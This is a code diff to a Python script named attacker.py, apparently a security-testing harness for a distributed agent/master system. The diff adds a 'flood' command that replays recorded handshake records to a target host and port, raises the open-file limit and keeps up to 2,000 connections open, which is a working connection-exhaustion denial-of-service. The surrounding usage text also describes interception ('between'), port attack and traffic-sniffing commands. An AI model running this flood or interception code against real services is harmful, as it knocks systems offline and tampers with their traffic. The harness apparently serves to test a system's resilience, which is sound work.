@@ -8,16 +8,20 @@ attacker.py port HOST PORT JOB FOLDER [UID]
 attacker.py between PORT HOST HOST_PORT FOLDER [TRICK...]
     Passes connections to PORT on to HOST, and records them in FOLDER as N.agent and N.master. A trick for
     each connection, in their order; those that follow are passed on unchanged, and the first of these is logged.
+attacker.py flood HOST PORT FOLDER
+    Repeats the first records of FOLDER, again and again, and keeps the newest 2,000 connections open.
 attacker.py sniff INTERFACE FILE
     Writes all that passes the interface to FILE.
 attacker.py worker HOST PORT FOLDER
     A worker: rank 0 sets a key, and when FOLDER/finish exists each one expects it unchanged.
 """
+import collections
 import encodings.idna  # here, as another user may not read Python's own files
 import itertools
 import json
 import os
 import pathlib
+import resource
 import socket
 import ssl
 import struct
@@ -214,6 +218,23 @@ def attack_port(host, port, job, folder, uid=None):
     time.sleep(600)
 
 
+def flood(host, port, folder):
+    recordings = [name.read_bytes() for name in sorted(pathlib.Path(folder).glob("*.agent"))]
+    records = [first_record(each) for each in recordings if each[:1] == bytes([HANDSHAKE])]
+    most = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
+    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
+    held = collections.deque(maxlen=min(2_000, most - 100))
+    for number in itertools.count(1):
+        try:
+            peer = socket.create_connection((host, int(port)), timeout=DEADLINE)
+            held.append(peer)
+            peer.sendall(records[number % len(records)])
+        except ConnectionError:  # it is closed already
+            pass
+        if number == held.maxlen:
+            print("floods", flush=True)
+
+
 class Line:
     """One connection between an agent and its master, and what lies between."""
 
@@ -354,4 +375,5 @@ def work(host, port, folder):
     assert value == b"weights", "the key was changed"
 
 
-{"port": attack_port, "between": attack_between, "sniff": sniff, "worker": work}[sys.argv[1]](*sys.argv[2:])
+COMMANDS = {"port": attack_port, "between": attack_between, "flood": flood, "sniff": sniff, "worker": work}
+COMMANDS[sys.argv[1]](*sys.argv[2:])
